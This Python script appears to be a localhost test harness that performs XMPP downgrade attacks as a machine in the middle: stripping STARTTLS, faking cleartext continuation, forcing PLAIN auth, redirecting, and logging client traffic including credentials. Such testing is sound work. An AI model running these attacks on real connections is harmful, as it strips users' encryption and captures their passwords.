"""A machine in the middle for downgrade attempts: one that holds a certificate the victim trusts, or none.

    meddler.py LISTEN_PORT SERVER_PORT MODE CERTIFICATE KEY LOG

MODE:
  strip-starttls   a plain proxy that takes STARTTLS out of the server's features
  clear-after      a plain proxy that answers <starttls/> with <proceed/> and then goes on in the clear
  plain-only       TLS on both sides; the server's mechanisms become PLAIN
  plain-first      TLS on both sides; PLAIN is put before the server's mechanisms, and -PLUS is taken out
  elsewhere        answers under TLS that the account is at SERVER_PORT (see-other-host); elsewhere-in-clear: without TLS
  truncate         TLS on both sides; the connection ends in the middle of the server's features
All that the client sends, as it can be read here, goes to LOG.
"""
import re
import select
import socket
import ssl
import sys
import threading

port, server, mode, certificate, key, log_path = int(sys.argv[1]), int(sys.argv[2]), *sys.argv[3:7]
log = open(log_path, "ab", buffering=0)
MECHANISMS = re.compile(rb"<mechanisms[^>]*>.*?</mechanisms>", re.S)


def changed(data):
    if mode == "strip-starttls":
        return re.sub(rb"<starttls[^>]*?(/>|>.*?</starttls>)", b"", data, flags=re.S)
    if mode == "plain-only":
        only = b"<mechanisms xmlns='urn:ietf:params:xml:ns:xmpp-sasl'><mechanism>PLAIN</mechanism></mechanisms>"
        return MECHANISMS.sub(only, data)
    if mode == "plain-first":
        data = re.sub(rb"<mechanism>[^<]*-PLUS</mechanism>", b"", data)
        return re.sub(rb"(<mechanisms[^>]*>)", rb"\1<mechanism>PLAIN</mechanism>", data)
    return data


def close(*ends):
    for end in ends:
        try:
            end.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


def relay(client, upstream):
    """Both ways in one thread: two must not read and write one TLS connection at once."""
    waits = lambda end: isinstance(end, ssl.SSLSocket) and end.pending() > 0
    while True:
        ends = [end for end in (client, upstream) if waits(end)] or select.select((client, upstream), (), ())[0]
        for end in ends:
            end.setblocking(False)
            try:
                data = end.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                continue  # a record of TLS's own
            finally:
                end.setblocking(True)
            if not data:
                return
            if end is upstream:
                if mode == "truncate" and b"<mechanism" in data:
                    client.sendall(data[: data.index(b"<mechanism") + 5])
                    return
                client.sendall(changed(data))
                continue
            log.write(data)
            if mode == "clear-after" and b"<starttls" in data:
                client.sendall(b"<proceed xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>")
            else:
                upstream.sendall(data)


def send_away(client):
    header = b"<?xml version='1.0'?><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'"
    client.recv(65536)
    client.sendall(header + b" id='1' version='1.0' from='xmpp.test'>")
    other = b"<see-other-host xmlns='urn:ietf:params:xml:ns:xmpp-streams'>127.0.0.1:%d</see-other-host>" % server
    client.sendall(b"<stream:error>" + other + b"</stream:error></stream:stream>")
    client.close()


def serve(client):
    try:
        if mode == "elsewhere-in-clear":
            return send_away(client)
        if mode == "elsewhere":
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(certificate, key)
            return send_away(context.wrap_socket(client, server_side=True))
        upstream = socket.create_connection(("127.0.0.1", server))
        if mode in ("plain-only", "plain-first", "truncate"):
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(certificate, key)
            client = context.wrap_socket(client, server_side=True)
            blind = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            blind.check_hostname, blind.verify_mode = False, ssl.CERT_NONE
            upstream = blind.wrap_socket(upstream, server_hostname="xmpp.test")
        try:
            relay(client, upstream)
        finally:
            close(client, upstream)
    except OSError:
        pass


listener = socket.create_server(("127.0.0.1", port))
while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
